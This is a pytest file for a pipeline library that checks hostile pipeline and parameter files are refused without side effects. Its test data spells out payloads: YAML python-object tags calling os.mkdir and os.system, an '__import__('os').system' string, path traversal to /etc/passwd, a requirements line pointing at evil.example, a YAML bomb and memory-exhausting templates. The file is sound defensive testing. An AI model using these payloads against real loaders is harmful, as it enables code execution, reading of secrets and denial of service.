"""Pipeline files of someone who means harm: refused, and nothing else happens."""

from __future__ import annotations

import inspect
import itertools
import json
import os
import subprocess
import sys
import typing
from pathlib import Path
from typing import Any

import pytest

import beam_distilabel.models.embeddings
import beam_distilabel.models.image_generation
import beam_distilabel.models.llms
import beam_distilabel.steps.tasks
from beam_distilabel.dumping import Dumpable
from beam_distilabel.errors import DistilabelUserError
from beam_distilabel.models.base import EngineModel, Model
from beam_distilabel.models.embeddings import Embeddings
from beam_distilabel.pipeline import Pipeline, read_parameters
from beam_distilabel.pipeline.registry import is_ours, known_classes
from beam_distilabel.step import _Step


def described(step: Any, name: Any = "one", **pipeline: Any) -> dict[str, Any]:
    """A pipeline file with one Step."""
    return {"pipeline": {"name": "p", "steps": [{"step": step, "name": name}], **pipeline}}


def dump(name: str, module: Any = "beam_distilabel", **fields: Any) -> dict[str, Any]:
    return {**fields, "type_info": {"module": module, "name": name}}


OPENAI = dump("OpenAILLM", model="m")


def asking(**fields: Any) -> dict[str, Any]:
    return described(dump("TextGeneration", llm={**OPENAI, **fields}))


DATA: dict[str, tuple[Any, str]] = {
    "module": (described(dump("system", "os")), "'one': there is no class 'system'"),
    "module of a class": (described(dump("KeepColumns", "antigravity")), "'antigravity' here"),
    "nested module": (asking(type_info={"module": "subprocess", "name": "Popen"}), "'Popen'"),
    "deep module": (
        asking(generation_kwargs={"a": [{"b": dump("Popen", "subprocess")}]}),
        "there is no class 'Popen'",
    ),
    "dotted name": (described(dump("os.system", "")), "no class 'os.system'"),
    "module that is no text": (described(dump("KeepColumns", ["os"])), "no class 'KeepColumns'"),
    "private class": (described(dump("_RowsReceived")), "no class '_RowsReceived'"),
    "no Step": (described(OPENAI), "no class 'OpenAILLM'"),
    "Step for an LLM": (
        described(dump("TextGeneration", llm=dump("KeepColumns", columns=["a"]))),
        "no class 'KeepColumns'",
    ),
    "enum that evaluates": (
        asking(
            generation_kwargs={
                "x": {
                    "_type": "enum",
                    "_enum_type": "__import__('os').system('id')",
                    "_name": "X",
                    "_values": {"A": "a"},
                }
            }
        ),
        "this is no enum",
    ),
    "enum with a dunder": (
        asking(
            generation_kwargs={
                "x": {
                    "_type": "enum",
                    "_enum_type": "str",
                    "_name": "X",
                    "_values": {"__class__": "a", "_missing_": "b"},
                }
            }
        ),
        "this is no enum",
    ),
    "bytes that are none": (
        asking(generation_kwargs={"x": {"_type": "bytes", "_base64": "*"}}),
        "this is no bytes",
    ),
    "field": (described(dump("KeepColumns", columns=["a"], __class__="x")), "field '__class__'"),
    "private field": (described(dump("KeepColumns", columns=["a"], _pipeline=1)), "'_pipeline'"),
    "path as the pipeline's name": (
        {"pipeline": {"name": "../../etc", "steps": [{"step": dump("Step"), "name": "one"}]}},
        "can't be a folder's name",
    ),
    "list as the pipeline's name": (
        {"pipeline": {"name": ["a"], "steps": [{"step": dump("Step"), "name": "one"}]}},
        "the pipeline's name is no text",
    ),
    "path as a Step's name": (described(dump("Step"), name="../../etc"), "can't be a Step's name"),
    "newline in a Step's name": (described(dump("Step"), name="a\n"), "can't be a Step's name"),
    "number as a Step's name": (described(dump("Step"), name=3), "name=3"),
    "file with a secret": (
        asking(api_key="file:/etc/passwd"),
        "`--param one.llm.api_key=file:/etc/passwd`",
    ),
    "file with a secret, deep": (
        asking(generation_kwargs={"extra_headers": {"Authorization": "Bearer file:/etc/passwd"}}),
        "names a file with a secret",
    ),
    "template that is large": (
        described(dump("TextGeneration", llm=OPENAI, template="{{ 'a' }}" * 100_000)),
        "at most 262,144",
    ),
    "template that is deep": (
        described(dump("TextGeneration", llm=OPENAI, template="{{ " + "(" * 9999)),
        "nested too deep",
    ),
    "infinite": (asking(generation_kwargs={"temperature": float("inf")}), "is infinite"),
    "hidden header": (
        asking(default_headers={"X-Custom": "***"}),
        "'X-Custom' is '***', which stands where a secret was",
    ),
    "router": (
        described(dump("Step"), routing_batch_functions=[{"step": "one", "type_info": {
            "module": "os", "name": "system", "kwargs": {"command": "id"}}}]),
        "the routing function 'system' can't be loaded",
    ),
    "router's arguments": (
        described(dump("Step"), routing_batch_functions=[{"step": "one", "type_info": {
            "module": "os", "name": "sample_n_steps", "kwargs": ["n"]}}]),
        "arguments are no dict",
    ),
    "requirements": (
        {**described(dump("Step")), "requirements": ["x", ["--index-url=http://evil.example"]]},
        "a list of texts",
    ),
    "version": ({**described(dump("Step")), "beam_distilabel": {"version": []}}, "is no version"),
}  # fmt: skip
CONTENT: dict[str, tuple[bytes, str]] = {
    "apply.yaml": (b"pipeline: !!python/object/apply:os.mkdir ['mark']", "the tag"),
    "new.yaml": (b"!!python/object/new:os.mkdir ['mark']", "the tag"),
    "secret.yaml": (
        b"token: !!python/object:pydantic.types.SecretStr {_secret_value: hf_x}",
        "a secret is here as plain text",
    ),
    "schema.yaml": (
        b"pipeline: {name: p, steps: [{name: one, step: {type_info: {module: beam_distilabel, "
        b"name: TextGeneration}, llm: {model: m, type_info: {module: distilabel, name: OpenAILLM}, "
        b"structured_output: {schema: !!python/name:antigravity.U ''}}}}]}",
        "`register(U)` it before you load the file",
    ),
    "laughs.yaml": (
        b"a: &a [x,x,x,x,x,x,x,x,x,x]\n"
        + b"".join(
            b"%c: &%c [%s]\n" % (c + 1, c + 1, b",".join([b"*%c" % c] * 10)) for c in range(97, 110)
        ),
        "more than 500,000 values",
    ),
    "large.yaml": (b"a: '%s'" % (b"x" * 50_000_000), "larger than 4 MB"),
    "large.json": (b'{"a": "%s"}' % (b"x" * 50_000_000), "larger than 4 MB"),
    "deep.yaml": (b"[" * 1_000_000, "levels deep"),
    "deep.json": (b"[" * 1_000_000, "levels deep"),
    "keys.yaml": (b"pipeline: {}\npipeline: {}", "is there twice"),
    "utf16.yaml": ("pipeline: {}".encode("utf-16"), "UTF-16"),
    "nul.yaml": (b"pipeline: \0", "NUL"),
    "python.yaml": (b"import os\nos.mkdir('mark')\n", "no pipeline file"),
    "python.json": (b"__import__('os').mkdir('mark')", "can't be read as json"),
    "int.json": (b'{"pipeline": %s}' % (b"9" * 100_000), "a number of 100000 digits"),
}


def value_of(name: str, annotation: Any) -> Any:
    """What a file may give a field, to be harmful where that is possible."""
    text = str(annotation)
    if "LLM" in text:
        return [OPENAI] if text.startswith("list") else OPENAI
    if "Embeddings" in text:
        return dump("vLLMEmbeddings", model="m")
    if typing.get_origin(annotation) is typing.Literal:
        return typing.get_args(annotation)[0]
    if "int" in text or "float" in text:
        return 1
    return ["/etc/passwd"] if text.startswith("list") else "/etc/passwd"


HARMFUL = {
    "base_url": "http://127.0.0.1:9/v1",
    "chat_template": "/etc/passwd",
    "data_files": "/etc/passwd",
    "dataset_path": "/etc",
    "host": "http://127.0.0.1:9",
    "model_path": "/etc/passwd",
    "repo_id": "org/data",
    "token": "hf_x",
    "tokenizer": "../../etc/passwd",
    "tokenizer_id": "org/model",
}


def of_each_class() -> dict[str, Any]:
    """A pipeline file per class that this package has."""
    files = {}
    for cls in itertools.chain.from_iterable(known_classes(Dumpable).values()):
        if not is_ours(cls.__module__) or not issubclass(cls, (_Step, EngineModel)):
            continue
        fields = {
            name: HARMFUL.get(name) or value_of(name, field.annotation)
            for name, field in cls.model_fields.items()
            if field.is_required() or name in HARMFUL
        }
        one = dump(cls.__qualname__, cls.__module__, **fields)
        if issubclass(cls, Embeddings):
            one = dump("EmbeddingGeneration", embeddings=one)
        elif issubclass(cls, Model):
            one = dump("TextGeneration", llm=one)
        elif issubclass(cls, EngineModel):
            continue
        files[cls.__name__] = described(one)
    return files


@pytest.fixture(scope="module")
def process(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """What a process says that has imported the pipeline alone and loads all files; see there."""
    folder = tmp_path_factory.mktemp("files")
    data = {"first": described(dump("Step")), **of_each_class()}
    contents = {title: (".json", json.dumps(one).encode()) for title, one in data.items()}
    for title, (one, _) in DATA.items():
        contents[title] = (".json", json.dumps(one).encode())
    for title, (content, _) in CONTENT.items():
        contents[title] = (os.path.splitext(title)[1], content)
    titles = {}
    for number, (title, (extension, content)) in enumerate(contents.items()):
        file = folder / f"{number}{extension}"
        file.write_bytes(content)
        titles[str(file)] = title
    result = subprocess.run(
        [sys.executable, "-m", "tests.pipeline.audited_loads", *titles],
        capture_output=True,
        text=True,
        cwd=Path(__file__).parents[2],
        env={**os.environ, "OPENAI_API_KEY": "k"},
    )
    assert result.returncode == 0, result.stderr
    said = json.loads(result.stdout)
    found = {titles[outcome["file"]]: outcome for outcome in said["files"]}
    del found["first"]  # with what a process does once
    for outcome in found.values():
        opened = f"open ('{outcome['file']}',"
        outcome["events"] = [e for e in outcome["events"] if not e.startswith(opened)]
    return {"known": set(said["known"]), "files": found}


@pytest.fixture
def outcomes(process: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """What comes of loading each file, by the file's title."""
    files: dict[str, dict[str, Any]] = process["files"]
    return files


def test_every_class_of_this_package_is_known(process: dict[str, Any]) -> None:
    for package in (
        beam_distilabel.steps,
        beam_distilabel.steps.tasks,
        beam_distilabel.models.llms,
        beam_distilabel.models.embeddings,
        beam_distilabel.models.image_generation,
    ):
        for name, cls in inspect.getmembers(package, inspect.isclass):
            if issubclass(cls, Dumpable):
                assert cls.__name__ in process["known"], f"{package.__name__}.{name}"
    assert {"TextGeneration", "LoadDataFromHub", "OpenAILLM"} <= process["known"]


@pytest.mark.parametrize("title", [*DATA, *CONTENT])
def test_hostile_files_are_refused_without_side_effects(
    outcomes: dict[str, dict[str, Any]], title: str
) -> None:
    message = {**DATA, **CONTENT}[title][1]
    outcome = outcomes[title]
    assert outcome["outcome"].startswith("DistilabelUserError: ")
    assert message in outcome["outcome"]
    assert len(outcome["outcome"]) < 1500
    assert outcome["events"] == []
    assert outcome["grown"] < 512 * 2**20


def test_no_class_does_anything_when_a_file_names_it(
    outcomes: dict[str, dict[str, Any]],
) -> None:
    """Loaders, models and sinks read, ask and write when they run, not when they are made."""
    classes = of_each_class()
    assert {title: outcomes[title]["events"] for title in classes} == {
        title: [] for title in classes
    }
    made = [title for title in classes if outcomes[title]["outcome"].startswith("loaded")]
    assert len(made) > len(classes) / 2 > 10, [outcomes[title]["outcome"] for title in classes]


def test_templates_are_not_evaluated_when_a_file_is_read(tmp_path: Path) -> None:
    files = []
    for template in (
        "{{ 'a' * 1500000000 }}",
        "{{ [1] * 200000000 }}",
        "{{ 'a'|center(1500000000) }}",
        "{% autoescape 'a'|center(1500000000) %}{% endautoescape %}",
        "{{ 10 ** (10 ** 8) }}",
    ):
        files.append(tmp_path / f"{len(files)}.json")
        step = dump("TextGeneration", llm=OPENAI, template=template)
        files[-1].write_text(json.dumps(described(step)))
    result = subprocess.run(
        [sys.executable, "-m", "tests.pipeline.audited_loads", *files],
        capture_output=True,
        text=True,
        cwd=Path(__file__).parents[2],
        env={**os.environ, "OPENAI_API_KEY": "k"},
    )
    assert result.returncode == 0, result.stderr
    outcomes = json.loads(result.stdout)["files"]
    assert len(outcomes) == len(files)
    assert [one for one in outcomes if one["grown"] > 512 * 2**20] == []


@pytest.mark.parametrize("load", [Pipeline.from_file, Pipeline.from_yaml, read_parameters])
def test_what_is_no_file(tmp_path: Path, load: Any) -> None:
    pipe = tmp_path / "pipe.yaml"
    os.mkfifo(pipe)  # reading it would wait for ever
    folder = tmp_path / "folder.yaml"
    folder.mkdir()
    for path, message in (
        (pipe, "is no regular file"),
        (Path("/dev/zero"), "is no regular file"),
        (folder, "is a folder; name the file in it"),
        (tmp_path / "nowhere.yaml", "there is no file"),
        (tmp_path / "nul\0.yaml", "can't be read: embedded null byte"),
    ):
        with pytest.raises(DistilabelUserError, match=message):
            load(path)


def test_a_link_to_a_file_is_read(tmp_path: Path) -> None:
    (tmp_path / "target").write_text(json.dumps(described(dump("Step"))))
    (tmp_path / "link").symlink_to(tmp_path / "target")
    assert Pipeline.from_file(tmp_path / "link").step_names == ["one"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("- a", "has no runtime parameters"),
        ("a: 1", "has no runtime parameters"),
        ("a: !!python/name:os.system", "the tag"),
        ("a: {b: 1, b: 2}", "twice"),
        ("a: {b: [.nan]}", "NaN"),
    ],
)
def test_parameter_files_that_are_refused(tmp_path: Path, content: str, message: str) -> None:
    path = tmp_path / "parameters.yaml"
    path.write_text(content)
    with pytest.raises(DistilabelUserError, match=f"parameters.yaml.*{message}"):
        read_parameters(path)
